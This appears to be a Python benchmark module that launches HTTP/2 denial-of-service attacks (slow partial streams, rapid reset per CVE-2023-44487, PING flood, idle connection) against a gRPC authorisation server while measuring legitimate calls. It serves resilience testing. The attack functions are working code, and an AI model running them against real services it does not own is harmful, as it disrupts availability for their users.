"""Hostile HTTP/2 callers, written with the ``h2`` package, and a legitimate one.

Each attack speaks raw HTTP/2 the way a hostile client can, not the way a
gRPC library lets it:

- ``partial``: connections each open streams that announce a large gRPC
  message and send all of it but the last bytes, then hold it;
- ``rapid-reset``: one connection sends HEADERS and RST_STREAM in a loop
  (CVE-2023-44487), as fast as one Python process can;
- ``pings``: one connection sends PINGs without data until the server goes
  away;
- ``idle``: one connection that sends nothing, to see when the server closes
  it.

Run one in a process of its own (``python -m bench.attacks ATTACK ...``) so
that it competes with the server as a separate client would; it prints one
JSON line with what it did. ``legit_checks`` measures the legitimate
``Check`` calls made meanwhile, each with its deadline, on a connection of
their own.
"""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from bench.h2 import cpu_pinning
from bench.suite import LOAD_CPU
from voiso.apikeys.v1 import authorize_pb2

CHECK = "/voiso.apikeys.v1.Authorize/Check"
READ_SIZE = 1 << 16
ROOT = Path(__file__).resolve().parent.parent


def grpc_request_headers(target: str, method: str) -> list[tuple[str, str]]:
    """The HEADERS of a gRPC call to ``method``."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", target),
        (":path", method),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _address(target: str) -> tuple[str, int]:
    host, _, port = target.rpartition(":")
    return host, int(port)


class Connection:
    """One raw HTTP/2 client connection over a blocking socket."""

    def __init__(self, target: str) -> None:
        self.target = target
        self.sock = socket.create_connection(_address(target), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.h2.initiate_connection()
        self.flush()
        self.closed_by_server: int | None = None
        self.reset_by_server: set[int] = set()
        self.ended_by_server: set[int] = set()
        self.trailers: dict[int, dict[str, str]] = {}

    def flush(self) -> None:
        """Sends what h2 has queued."""
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def receive(self, timeout: float) -> bool:
        """Reads what the server sent within ``timeout``; False once it closed."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(READ_SIZE)
        except (TimeoutError, BlockingIOError):
            return True
        except OSError:
            self.closed_by_server = self.closed_by_server or -1
            return False
        if not data:
            self.closed_by_server = self.closed_by_server or -1
            return False
        self.handle(self.h2.receive_data(data))
        self.flush()
        return True

    def handle(self, events: Sequence[h2.events.Event]) -> None:
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.closed_by_server = int(event.error_code or 0)
            elif isinstance(event, h2.events.StreamReset):
                self.reset_by_server.add(event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                self.ended_by_server.add(event.stream_id)
            elif isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                # A refusal comes as headers only (trailers-only).
                self.trailers.setdefault(event.stream_id, {}).update(dict(event.headers))
            elif isinstance(event, h2.events.DataReceived):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def close(self) -> None:
        self.sock.close()


# --- partly-sent streams ---------------------------------------------------------


@dataclass
class _PartialStream:
    stream_id: int
    remaining: bytes


@dataclass
class PartialReport:
    """What the partly-sent streams attack managed."""

    connections: int = 0
    streams_opened: int = 0
    streams_reset: int = 0
    bytes_sent: int = 0
    connections_closed: int = 0
    seconds: float = 0.0


def partial_streams(
    target: str,
    *,
    connections: int,
    streams: int,
    announce: int,
    unsent: int,
    method: str = CHECK,
    settle: float = 5.0,
) -> tuple[list[Connection], PartialReport]:
    """Opens ``connections`` x ``streams`` streams that each announce a message
    of ``announce`` bytes and send all but its last ``unsent``; returns once
    no stream can send more for a second (or after ``settle`` seconds)."""
    started = time.monotonic()
    report = PartialReport()
    opened: list[Connection] = []
    pending: dict[Connection, list[_PartialStream]] = {}
    payload = b"\0" + struct.pack(">I", announce) + b"\x0a" * (announce - unsent)
    for _ in range(connections):
        connection = Connection(target)
        connection.receive(0.05)
        opened.append(connection)
        report.connections += 1
        ours = []
        for _ in range(streams):
            try:
                stream_id = connection.h2.get_next_available_stream_id()
                connection.h2.send_headers(stream_id, grpc_request_headers(target, method))
            except h2.exceptions.TooManyStreamsError:
                break
            ours.append(_PartialStream(stream_id=stream_id, remaining=payload))
            report.streams_opened += 1
        connection.flush()
        pending[connection] = ours
    sending = quiet_since = time.monotonic()
    while pending and time.monotonic() - sending < settle:
        progressed = False
        for connection, ours in list(pending.items()):
            if connection.closed_by_server is not None:
                del pending[connection]
                continue
            sent = _send_what_fits(connection, ours)
            report.bytes_sent += sent
            progressed = progressed or sent > 0
            try:
                connection.flush()
            except OSError:
                connection.closed_by_server = -1
            if not ours:
                del pending[connection]
        for connection in opened:
            if connection.closed_by_server is None:
                connection.receive(0.0 if progressed else 0.01)
        if progressed:
            quiet_since = time.monotonic()
        elif time.monotonic() - quiet_since > 1.0:
            break
    report.streams_reset = sum(len(c.reset_by_server) for c in opened)
    report.connections_closed = sum(c.closed_by_server is not None for c in opened)
    report.seconds = time.monotonic() - started
    return opened, report


def _send_what_fits(connection: Connection, streams: list[_PartialStream]) -> int:
    sent = 0
    for stream in list(streams):
        if stream.stream_id in connection.reset_by_server:
            streams.remove(stream)
            continue
        try:
            window = connection.h2.local_flow_control_window(stream.stream_id)
        except h2.exceptions.StreamClosedError:
            streams.remove(stream)
            continue
        size = min(window, len(stream.remaining), connection.h2.max_outbound_frame_size)
        if size <= 0:
            continue
        connection.h2.send_data(stream.stream_id, stream.remaining[:size])
        stream.remaining = stream.remaining[size:]
        sent += size
        if not stream.remaining:
            streams.remove(stream)
    return sent


# --- rapid reset -----------------------------------------------------------------


@dataclass
class ResetReport:
    """What the rapid-reset attack managed."""

    streams: int = 0
    refused_by_server: int = 0
    # The GOAWAY error code the server closed the connection with (-1: closed
    # without a GOAWAY that could be read), None if it stayed open.
    closed: int | None = None
    seconds: float = 0.0

    @property
    def streams_per_second(self) -> float:
        return self.streams / self.seconds if self.seconds else 0.0


def rapid_reset(
    target: str, *, duration: float, batch: int = 50, method: str = CHECK
) -> ResetReport:
    """HEADERS + RST_STREAM(CANCEL) on one connection for ``duration`` seconds."""
    report = ResetReport()
    connection = Connection(target)
    connection.receive(0.2)
    headers = grpc_request_headers(target, method)
    started = time.monotonic()
    try:
        while time.monotonic() - started < duration and connection.closed_by_server is None:
            for _ in range(batch):
                try:
                    stream_id = connection.h2.get_next_available_stream_id()
                    connection.h2.send_headers(stream_id, headers)
                    connection.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                except h2.exceptions.TooManyStreamsError:
                    break
                report.streams += 1
            try:
                connection.flush()
            except OSError:
                break
            connection.receive(0.0)
    finally:
        report.seconds = time.monotonic() - started
        report.refused_by_server = len(connection.reset_by_server)
        report.closed = connection.closed_by_server
        connection.close()
    return report


# --- pings and idleness -------------------------------------------------------------


@dataclass
class CloseReport:
    """How and when the server closed one connection."""

    error_code: int | None = None
    seconds: float = 0.0
    pings: int = 0


def ping_flood(target: str, *, pings: int, interval: float, timeout: float) -> CloseReport:
    """``pings`` PINGs without data, ``interval`` apart, then nothing (only
    answers to the server) until the server goes away or ``timeout`` passes.
    With no pings it is an idle connection."""
    connection = Connection(target)
    report = CloseReport()
    started = time.monotonic()
    try:
        while report.pings < pings and connection.closed_by_server is None:
            connection.h2.ping(struct.pack(">Q", report.pings))
            report.pings += 1
            try:
                connection.flush()
            except OSError:
                break
            connection.receive(interval)
        while connection.closed_by_server is None and time.monotonic() - started < timeout:
            connection.receive(0.1)
    finally:
        report.error_code = connection.closed_by_server
        report.seconds = time.monotonic() - started
        connection.close()
    return report


# --- the legitimate caller -----------------------------------------------------------


@dataclass
class LegitResult:
    """Legitimate calls made during an attack."""

    calls: int = 0
    succeeded: int = 0
    latencies_ms: list[float] = field(default_factory=list)
    codes: dict[str, int] = field(default_factory=dict)

    @property
    def success_rate(self) -> float:
        return self.succeeded / self.calls if self.calls else 0.0

    @property
    def p99_ms(self) -> float:
        ordered = sorted(self.latencies_ms)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] if ordered else 0.0


def legit_checks(
    target: str,
    key: str,
    *,
    calls: int,
    deadline: float = 0.1,
    interval: float = 0.02,
    route: tuple[str, str] = ("GET", "/api/v4/campaigns"),
) -> LegitResult:
    """``calls`` sequential ``Check`` calls with ``deadline`` each, ``interval``
    apart, on a connection of their own (made before the first call)."""
    result = LegitResult()
    request = authorize_pb2.CheckRequest(key=key, method=route[0], path=route[1])
    # A subchannel pool of its own: a connection no attacker shares.
    options = [("grpc.use_local_subchannel_pool", 1)]
    with grpc.insecure_channel(target, options=options) as channel:
        grpc.channel_ready_future(channel).result(timeout=10)
        check = channel.unary_unary(
            CHECK,
            request_serializer=authorize_pb2.CheckRequest.SerializeToString,
            response_deserializer=authorize_pb2.CheckResponse.FromString,
        )
        for _ in range(calls):
            started = time.perf_counter()
            code = "OK"
            try:
                check(request, timeout=deadline)
            except grpc.RpcError as exc:
                code = exc.code().name
            elapsed = time.perf_counter() - started
            result.calls += 1
            result.codes[code] = result.codes.get(code, 0) + 1
            if code == "OK":
                result.succeeded += 1
                result.latencies_ms.append(elapsed * 1000)
            time.sleep(max(0.0, interval - elapsed))
    return result


# --- attackers in processes of their own ---------------------------------------------


@contextmanager
def attacker(target: str, attack: str, *args: str) -> Iterator[subprocess.Popen[str]]:
    """``python -m bench.attacks ATTACK`` on the load CPU; stopped (its stdin
    closed) on exit."""
    process = subprocess.Popen(
        [
            *cpu_pinning(LOAD_CPU),
            sys.executable,
            "-m",
            "bench.attacks",
            attack,
            "--target",
            target,
            *args,
        ],
        cwd=ROOT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdin is not None and process.stdout is not None
    try:
        yield process
    finally:
        process.stdin.close()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        finally:
            process.stdout.close()


def report_of(process: subprocess.Popen[str], timeout: float = 60.0) -> dict[str, Any]:
    """The JSON line an attacker prints."""
    assert process.stdout is not None
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        line = process.stdout.readline()
        if line.strip():
            report: dict[str, Any] = json.loads(line)
            return report
        if process.poll() is not None:
            break
    raise RuntimeError(f"the attacker printed no report (exit {process.poll()})")


# --- the command line ------------------------------------------------------------------


def _print(report: Any) -> None:
    print(json.dumps(asdict(report)), flush=True)


def main(argv: Sequence[str] | None = None) -> int:
    """Runs one attack and prints its report as one JSON line."""
    parser = argparse.ArgumentParser(prog="python -m bench.attacks")
    parser.add_argument("attack", choices=("partial", "rapid-reset", "pings", "idle"))
    parser.add_argument("--target", required=True)
    parser.add_argument("--duration", type=float, default=3.0)
    parser.add_argument("--connections", type=int, default=10)
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--announce", type=int, default=63 * 1024)
    parser.add_argument("--unsent", type=int, default=10 * 1024)
    parser.add_argument("--pings", type=int, default=100)
    args = parser.parse_args(argv)
    if args.attack == "rapid-reset":
        _print(rapid_reset(args.target, duration=args.duration))
    elif args.attack == "pings":
        _print(ping_flood(args.target, pings=args.pings, interval=0.01, timeout=args.duration))
    elif args.attack == "idle":
        _print(ping_flood(args.target, pings=0, interval=0.0, timeout=args.duration))
    else:
        opened, report = partial_streams(
            args.target,
            connections=args.connections,
            streams=args.streams,
            announce=args.announce,
            unsent=args.unsent,
        )
        _print(report)
        # Holds the streams open, answering the server, until told to stop
        # (stdin closed) or the duration ends.
        hold_until = time.monotonic() + args.duration
        selector = selectors.DefaultSelector()
        selector.register(sys.stdin, selectors.EVENT_READ)
        while time.monotonic() < hold_until:
            if selector.select(timeout=0.05):
                break
            for connection in opened:
                if connection.closed_by_server is None:
                    connection.receive(0.0)
        for connection in opened:
            connection.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
